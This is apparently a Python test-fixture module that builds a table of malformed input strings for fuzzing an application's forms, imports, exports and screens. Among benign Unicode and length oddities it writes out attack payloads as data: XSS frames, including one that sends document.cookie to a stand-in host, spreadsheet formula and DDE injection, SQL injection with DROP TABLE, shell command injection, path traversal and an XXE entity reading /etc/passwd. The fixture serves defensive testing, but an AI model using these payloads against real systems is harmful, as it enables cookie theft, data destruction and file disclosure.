"""Bad input for every door: forms, imports, exports and screens must all live through it.

`CASES` holds (name, text) pairs, built here by kind; the names are unique and say what is odd.
"""

# ruff: noqa: E501 (a table of cases reads better on long lines than on six hundred short ones)

from __future__ import annotations

import sys
import unicodedata
from collections.abc import Iterator


def _numbered(kind: str, texts: Iterator[str] | list[str]) -> Iterator[tuple[str, str]]:
    for number, text in enumerate(texts, start=1):
        yield f"{kind} {number}", text


def _controls() -> list[str]:
    return [f"前{chr(code)}后" for code in (*range(0x20), 0x7F, *range(0x80, 0xA0))]


def _formats() -> list[str]:
    every = map(chr, range(sys.maxunicode + 1))
    return [f"同{character}意" for character in every if unicodedata.category(character) == "Cf"]


def _odd_blanks() -> list[str]:
    blanks = (
        "\u00a0\u1680\u2000\u2003\u2007\u2009\u200a\u202f\u205f\u3000\u2800\u3164\u115f\uffa0\u180e"
    )
    return [f"{blank}村部{blank}{blank}设在哪{blank}" for blank in blanks] + list(blanks)


def _noncharacters() -> list[str]:
    return [
        f"甲{chr(code)}乙" for code in (0xFDD0, 0xFDEF, 0xFFFE, 0xFFFF, 0x1FFFE, 0x10FFFF, 0xFFFD)
    ]


def _surrogates() -> list[str]:
    return ["村\ud800", "\udfff村", "村\udc80\ud83d民"]


def _zalgo() -> list[str]:
    marks = [chr(code) for code in range(0x300, 0x370)]
    return [
        "并" + "".join(marks),
        "".join(letter + "".join(marks[:30]) for letter in "consult"),
        "e" + "\u0301" * 1000,
        "\u0489" * 50 + "村",
        "村\u20dd\u20dd\u20dd\u20dd\u20dd\u20dd",
        "\u0e01" + "\u0e34" * 40,
    ]


def _emoji() -> list[str]:
    return [
        "👍", "👍🏽", "👨\u200d👩\u200d👧\u200d👦", "🏳\ufe0f\u200d🌈", "🇨🇳", "1\ufe0f\u20e3", "❤\ufe0f", "☎", "🈶",
        "🧑🏿\u200d🚀", "🏴\U000e0067\U000e0062\U000e007f", "👩\u200d", "\u200d👩", "©\ufe0f", "😀" * 300,
    ]  # fmt: skip


def _reserved_words() -> list[str]:
    words = (
        "undefined undef null NULL (null) nil None NIL true false True TRUE FALSE NaN nan Infinity -Infinity inf "
        "hasOwnProperty constructor __proto__ toString self this then \\ \\\\ // ; ' \" ` 0 1 -1 "
        "CON PRN AUX NUL COM1 LPT1 nul.txt .htaccess admin root system guest select default undefined0 "
        "function class def lambda return yield import exec eval open os sys __class__ __import__ globals() "
        "id rowid oid ctid tableoid user current_user session_user now() 无 空 未知 不详 没有 否 是 其他 合计 小计 总计"
    )
    return words.split()


def _numbers() -> list[str]:
    plain = (
        "0 00 01 1.0 1.00 1. .5 1e5 1E400 -1E400 1e-400 0x1F 0b11 0o17 1/2 1/0 0/0 -0 +0 0.0 -0.0 1,000 1,000,000.00 "
        "1.000,00 1'000 12345678901234567890 9223372036854775807 9223372036854775808 -9223372036854775809 "
        "4294967296 2147483648 3.4028235e38 1.7976931348623157e309 0.1e 1_000 ١٢٣ १२३ １２３ ①②③ ⅷ ½ ² ₂ 〇一二 壹贰叁 "
        "百分之五十二点四 52.4% ５２.４％ 2011-03-10 2011-02-30 2011-13-01 0000-00-00 9999-12-31 24:00 25:61 "
        "2026年11月23日 二〇二六年 1900-01-00 44927 3月 12组 -5 --5 ++5 1-1 3-5"
    )
    return plain.split()


def _scripts() -> list[str]:
    calls = ["alert(1)", "document.location='//x.example/'+document.cookie", "fetch('//x.example')"]
    frames = [
        "<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<scr<script>ipt>{}</scr</script>ipt>", "</title><script>{}</script>",
        "<img src=x onerror=\"{}\">", "<svg onload={}>", "<svg><script>{}</script></svg>", "<body onload={}>",
        "<iframe src=\"javascript:{}\"></iframe>", "<a href=\"javascript:{}\">点我</a>", "<a href='data:text/html,{}'>点我</a>",
        "<math><mtext></mtext><script>{}</script></math>", "<input autofocus onfocus={}>", "<details open ontoggle={}>",
        "<video><source onerror=\"{}\"></video>", "<marquee onstart={}>", "\"><script>{}</script>", "'-{}-'", "\";{};//",
        "${{{}}}", "{{{{{}}}}}", "<%= {} %>", "#{{{}}}", "[[${{{}}}]]", "<style>@import 'javascript:{}';</style>",
        "<object data=\"javascript:{}\">", "<form action=\"javascript:{}\"><button>好</button></form>", "＜script＞{}＜/script＞",
        "%3Cscript%3E{}%3C/script%3E", "&lt;script&gt;{}&lt;/script&gt;", "\\u003cscript\\u003e{}\\u003c/script\\u003e",
        "<!--{}-->", "<![CDATA[{}]]>", "<template>{}</template>", "<base href=\"//x.example/\">{}",
        "<meta http-equiv=refresh content=\"0;url=javascript:{}\">", "<link rel=stylesheet href=\"//x.example/{}\">",
    ]  # fmt: skip
    return [frame.format(call) for frame in frames for call in calls]


def _markdown() -> list[str]:
    return [
        "![图](http://x.example/a.png)", "[点我](javascript:alert(1))", "[点我](http://x.example)", "<http://x.example>", "# 大标题",
        "**粗** __粗__ *斜*", "`代码`", "```\n代码\n```", "> 引用", "| a | b |\n|---|---|\n| 1 | 2 |", "- [ ] 勾", "1. 一\n2. 二",
        "---", "***", "$x^2$", "$$\\frac{1}{0}$$", ":red[红]", ":material/delete:", ":smile:", "~~删~~", "[^1]: 注", "&nbsp;&#x27;",
        "[a]: http://x.example", "![][a]", "\\*不斜\\*", "http://x.example 自动链接", "www.x.example", "mailto:a@x.example",
    ]  # fmt: skip


def _formulas() -> list[str]:
    bodies = [
        "1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", "HYPERLINK(\"http://x.example?\"&A1,\"点我\")", "IMPORTXML(\"http://x.example\")",
        "WEBSERVICE(\"http://x.example\")", "DDE(\"cmd\";\"/C calc\";\"a\")",
    ]  # fmt: skip
    signs = [
        "=",
        "+",
        "-",
        "@",
        "|",
        "%",
        "＝",
        "＋",
        "－",
        "＠",
        " =",
        "\t=",
        "\n=",
        "好\n=",
        "好\r=",
        "\u200b=",
        '"=',
        "'=",
    ]
    return [sign + body for sign in signs for body in bodies]


def _sql_and_paths() -> list[str]:
    return [
        "'", "''", "\"", "1; DROP TABLE opinion", "'; DROP TABLE opinion; --", "' OR '1'='1", "\" OR \"\"=\"", "1 OR 1=1", "' UNION SELECT 1--",
        "admin'--", "') OR ('1'='1", "%' AND 1=1 --", "_%_", "\\'; --", "x'; ATTACH DATABASE 'a' AS b; --", "'||(SELECT 1)||'",
        "; PRAGMA writable_schema=1", "$1", ":name", "?", "%s", "%(name)s", "{0}", "{name}", "{0.__class__}", "%n%n%n", "%x%x",
        "../../etc/passwd", "..\\..\\windows\\win.ini", "/dev/zero", "file:///etc/passwd", "C:\\con\\con", "\\\\host\\share", "~/.ssh/id",
        "$(id)", "`id`", "; id", "| id", "&& id", "|| id", "$HOME", "%PATH%", "\nid\n", "-rf", "--help", "-", "--", "*", "?x[a-z]",
        "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>", "<!ENTITY a \"&a;&a;\">",
        "{\"a\":", "[[[[[[", "}}}}", "\\x00", "\\u0000", "%00", "&#0;", "\\n\\r\\t", "(a+)+$", "(?=", "[", "((((((((((",
        "{{7*7}}", "{% for x in y %}", "{{ config }}", "<<EOF", "EOF", "BEGIN:VCARD", "Content-Type: text/html", "a\r\nSet-Cookie: b=c",
        "HTTP/1.1 200 OK", "\x1b[31m红\x1b[0m", "\x1b]0;题\x07", "\x9b31m",
    ]  # fmt: skip


def _directions() -> list[str]:
    return [
        "\u202e同意不\u202c", "مرحبا بالقرية", "שלום כפר", "村 مرحبا 部 שלום", "\u2066左\u2069右", "\u200f同意\u200e", "\u061c好",
        "\u202d\u202e\u202a\u202b好", "١٢٣ 村", "ﷺ", "﷽" * 30, "اَلْقَرْيَةُ",
    ]  # fmt: skip


def _lookalikes() -> list[str]:
    return [
        "аdmin", "ａｄｍｉｎ", "ⓐⓓⓜⓘⓝ", "𝒶𝒹𝓂𝒾𝓃", "раураl", "同意 ", "冃意", "⼤坂湾", "⾏政村", "ﬁle", "Å Å", "Ω Ω", "ſcript", "＜b＞",
        "İstanbul", "ß ẞ", "Ǆ ǅ ǆ", "K", "㎡", "㏑", "㍿", "㊙", "豈更車", "神 神", "｡｢｣､",
    ]  # fmt: skip


def _scripts_of_the_world() -> list[str]:
    return [
        "社會主義新農村", "併村後村幹部怎麼辦", "日本語テスト", "한국어 시험", "ᠮᠣᠩᠭᠣᠯ", "བོད་ཡིག", "ئۇيغۇرچە", "ꆈꌠꉙ", "Saw cuengh", "ไทย",
        "Tiếng Việt", "Ελληνικά", "Русский", "हिन्दी", "தமிழ்", "አማርኛ", "ქართული", "Հայերեն", "𠮷野家", "㐂寿司", "崀山塅", "溁湾镇",
        "𪚥", "𰻝", "\U000323af", "𝕮𝖚𝖓𝖞𝖎", "⠓⠑⠇⠇⠕", "𓀀", "🀄", "ㄅㄆㄇ", "pīnyīn", "ɪpə", "‱", "¿¡", "†‡", "€£¥", "‹›«»",
    ]  # fmt: skip


def _typing() -> list[str]:
    return [
        "asdfghjkl", "啊啊啊啊啊啊", "。。。。。。", "，，，", "？？？？！！！", "哈" * 200, "123456", "....", "------", "_", "～～～", "……", "——", "“”",
        "《》", "（", "）（", "【】【", "\\", "/", "a", "A" * 500, "好 " * 300, "\n" * 50 + "好", "好\n\n\n\n\n好", "\t\t好", "，好", "好，", " 好 ",
        "同意\n" * 100, "tóng yì", "TONGYI", "t o n g", "０", "Ｏ", "一", "丨", "亅", "|", "1\\", "^_^", "(＾▽＾)", "orz", "233", "666",
    ]  # fmt: skip


def _lengths() -> Iterator[tuple[str, str]]:
    for length in (1, 500, 1999, 2000):
        yield f"length {length}", "村" * length
    for length in (2001, 8192, 65_536, 100_000, 1_000_000):
        yield f"length over the limit {length}", "村" * length
    yield "length of invisible characters", "\u200b" * 100_000
    yield "length of blanks", " \n" * 100_000
    yield "length of marks", "村" + "\u0301" * 100_000


def _build() -> Iterator[tuple[str, str]]:
    yield "empty", ""
    kinds = {
        "control": _controls(), "format": _formats(), "blank": _odd_blanks(), "noncharacter": _noncharacters(),
        "surrogate": _surrogates(), "zalgo": _zalgo(), "emoji": _emoji(), "reserved word": _reserved_words(),
        "number": _numbers(), "script": _scripts(), "markdown": _markdown(), "formula": _formulas(),
        "sql or path": _sql_and_paths(), "direction": _directions(), "lookalike": _lookalikes(),
        "writing": _scripts_of_the_world(), "typing": _typing(),
    }  # fmt: skip
    for kind, texts in kinds.items():
        yield from _numbered(kind, texts)
    yield from _lengths()


CASES: list[tuple[str, str]] = list(_build())
